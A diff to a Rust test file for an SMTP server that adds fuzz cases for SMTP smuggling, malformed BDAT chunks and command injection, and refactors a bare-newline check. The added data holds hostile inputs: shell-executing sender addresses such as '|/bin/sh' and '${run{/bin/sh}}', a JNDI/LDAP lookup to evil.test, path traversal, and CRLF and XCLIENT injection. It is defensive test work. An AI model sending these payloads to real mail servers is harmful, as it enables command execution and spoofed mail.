@@ -94,15 +94,21 @@ async fn all_replies(client: &mut SmtpClient) -> Vec<String> {
 fn judge(name: &str, normalize: bool, replies: &[String], end: &[u8]) {
     let accepted = replies.iter().filter(|r| r.contains("queued as")).count();
     let refused = replies.iter().any(|r| r.starts_with("550 "));
-    // NUL is no line end and no bare one either: content.
-    let odd = end.contains(&0);
-    if normalize || odd {
+    if normalize || !has_bare_newline(end) {
         assert!(accepted == 1 && !refused, "{name}: {replies:?}");
     } else {
         assert!(accepted == 0 && refused, "{name}: {replies:?}");
     }
     let transactions = replies.iter().filter(|r| r.contains(" 2.1.0 ")).count();
     assert_eq!(transactions, 0, "{name}: {replies:?}");
+}
+
+fn has_bare_newline(octets: &[u8]) -> bool {
+    (0..octets.len()).any(|at| match octets[at] {
+        b'\r' => octets.get(at + 1) != Some(&b'\n'),
+        b'\n' => at == 0 || octets[at - 1] != b'\r',
+        _ => false,
+    })
 }
 
 /// Mail goes on, and nothing that came to the mail exchanger was put together by somebody else.
@@ -134,6 +140,43 @@ const FALSE_ENDS: &[(&str, &[u8])] = &[
     ("LF LF . CRLF", b"\n\n.\r\n"),
     ("CRLF NUL . CRLF", b"\r\n\0.\r\n"),
     ("CRLF . NUL CRLF", b"\r\n.\0\r\n"),
+    ("CRLF NUL . CR", b"\r\n\0.\r"),
+    ("CRLF NUL . LF", b"\r\n\0.\n"),
+    ("CRLF . CR NUL LF", b"\r\n.\r\0\n"),
+    ("CR NUL LF . CR NUL LF", b"\r\0\n.\r\0\n"),
+    ("CR LF LF . CR LF LF", b"\r\n\n.\r\n\n"),
+    ("LF CR . LF CR", b"\n\r.\n\r"),
+    // No line ends at all to whoever goes by RFC 5321, but characters that some call white space or
+    // a new line, and octets that some remove.
+    ("CRLF . SP CRLF", b"\r\n. \r\n"),
+    ("CRLF . HT CRLF", b"\r\n.\t\r\n"),
+    ("CRLF SP . CRLF", b"\r\n .\r\n"),
+    ("CRLF . . CRLF", b"\r\n..\r\n"),
+    ("VT . VT", b"\x0b.\x0b"),
+    ("FF . FF", b"\x0c.\x0c"),
+    ("RS . RS", b"\x1e.\x1e"),
+    ("SUB at the begin of a line", b"\r\n\x1a\r\n"),
+    ("EOT at the begin of a line", b"\r\n\x04\r\n"),
+    ("CRLF . BS CRLF", b"\r\n.\x08\r\n"),
+    ("CRLF DEL . CRLF", b"\r\n\x7f.\r\n"),
+    ("IAC . IAC", b"\xff.\xff"),
+    ("NEL . NEL", "\u{85}.\u{85}".as_bytes()),
+    ("NEL . NEL in Latin-1", b"\x85.\x85"),
+    ("NL . NL in EBCDIC", b"\x15.\x15"),
+    ("LS . LS", "\u{2028}.\u{2028}".as_bytes()),
+    (
+        "CRLF with high bits . CRLF with high bits",
+        b"\x8d\x8a.\x8d\x8a",
+    ),
+    (
+        "CRLF, overlong . CRLF, overlong",
+        b"\xc0\x8d\xc0\x8a.\xc0\x8d\xc0\x8a",
+    ),
+    ("full-width dot", "\r\n\u{ff0e}\r\n".as_bytes()),
+    ("byte order mark", "\r\n\u{feff}.\r\n".as_bytes()),
+    ("soft hyphen", b"\r\n\xad.\r\n"),
+    ("quoted-printable", b"=0D=0A.=0D=0A"),
+    ("written out", b"\\r\\n.\\r\\n"),
 ];
 
 /// The same through BDAT: sizes that do not fit what follows, dots and lone line ends at borders.
@@ -167,6 +210,26 @@ const CHUNKS: &[(&str, &[u8])] = &[
         b"BDAT -1 LAST\r\nMAIL FROM:<evil@org.test>\r\n",
     ),
     (
+        "LAST chunk of no octets before the rest",
+        b"BDAT 12\r\nSubject: x\r\nBDAT 0 LAST\r\n\r\nsmuggled\r\n.\r\n",
+    ),
+    (
+        "a size with a sign",
+        b"BDAT +12 LAST\r\nSubject: x\r\nMAIL FROM:<evil@org.test>\r\n",
+    ),
+    (
+        "two sizes",
+        b"BDAT 12 99 LAST\r\nSubject: x\r\nMAIL FROM:<evil@org.test>\r\n",
+    ),
+    (
+        "LAST twice",
+        b"BDAT 12 LAST LAST\r\nSubject: x\r\nMAIL FROM:<evil@org.test>\r\n",
+    ),
+    (
+        "a bare LF behind the size",
+        b"BDAT 12 LAST\nSubject: x\r\nMAIL FROM:<evil@org.test>\r\n",
+    ),
+    (
         "DATA after BDAT",
         b"BDAT 12\r\nSubject: x\r\nDATA\r\nSubject: two\r\n\r\nx\r\n.\r\n",
     ),
@@ -197,4 +260,50 @@ const INJECTIONS: &[&[u8]] = &[
     b"NOOP \x1b[2J\x07",
     b"VRFY b@d.test\nDATA",
     b"HELP\x00\x0d",
+    // Commands with more than they take, and what other protocols and old servers know.
+    b"RSET MAIL FROM:<evil@org.test>",
+    b"DATA\nSubject: x\n\n.\nMAIL FROM:<evil@org.test>",
+    b"QUIT\nMAIL FROM:<evil@org.test>",
+    b"STARTTLS\nMAIL FROM:<evil@org.test>",
+    b"STARTTLS MAIL FROM:<evil@org.test>",
+    b"AUTH PLAIN =\nMAIL FROM:<evil@org.test>",
+    b"AUTH LOGIN\rMAIL FROM:<evil@org.test>",
+    b"SEND FROM:<evil@org.test>",
+    b"SOML FROM:<evil@org.test>",
+    b"SAML FROM:<evil@org.test>",
+    b"TURN",
+    b"ETRN d.test",
+    b"ATRN d.test",
+    b"BURL imap://evil@d.test/INBOX LAST",
+    b"WIZ",
+    b"DEBUG",
+    b"X-EXPS GSSAPI",
+    b"ONEX",
+    b"VERB",
+    // Addresses that a shell, a file system or a mailer has been seen to act on.
+    b"MAIL FROM:<|/bin/sh@org.test>",
+    b"MAIL FROM:<\"|/bin/sh\"@org.test>",
+    b"MAIL FROM:<;for i in 0 1;do read r;done;sh;exit 0;>",
+    b"MAIL FROM:<${run{/bin/sh}}@org.test>",
+    b"MAIL FROM:<`id`@org.test>",
+    b"MAIL FROM:<$(id)@org.test>",
+    b"MAIL FROM:</tmp/x@org.test>",
+    b"MAIL FROM:<../../x@org.test>",
+    b"MAIL FROM:<%s%n@org.test>",
+    b"MAIL FROM:<a@org.test>\tRCPT TO:<victim@d.test>",
+    b"MAIL FROM:<a@org.test> RCPT TO:<victim@d.test>",
+    b"MAIL FROM:<a@org.test>\x0bRCPT TO:<victim@d.test>",
+    b"MAIL FROM:<a@org.test>%0d%0aRCPT TO:<victim@d.test>",
+    b"MAIL FROM:<a@org.test,evil@org.test>",
+    b"MAIL FROM:<a@org.test><evil@org.test>",
+    b"MAIL FROM:<<a@org.test>>",
+    b"MAIL FROM:<a@org.test> BODY=8BITMIME\nDATA",
+    b"MAIL FROM:<a@org.test> RET=HDRS\0",
+    "MAIL FROM:<a\u{2029}@org.test> SMTPUTF8".as_bytes(),
+    "MAIL FROM:<a\u{202e}@org.test> SMTPUTF8".as_bytes(),
+    b"MAIL FROM:<a\xc0\x8aRCPT@org.test> SMTPUTF8",
+    b"EHLO x\x1b]0;evil\x07",
+    b"EHLO ${jndi:ldap://evil.test/x}",
+    b"XFORWARD ADDR=127.0.0.1+0D+0AIDENT=evil",
+    b"XCLIENT ADDR=127.0.0.1 NAME=x+00+0D+0AMAIL",
 ];
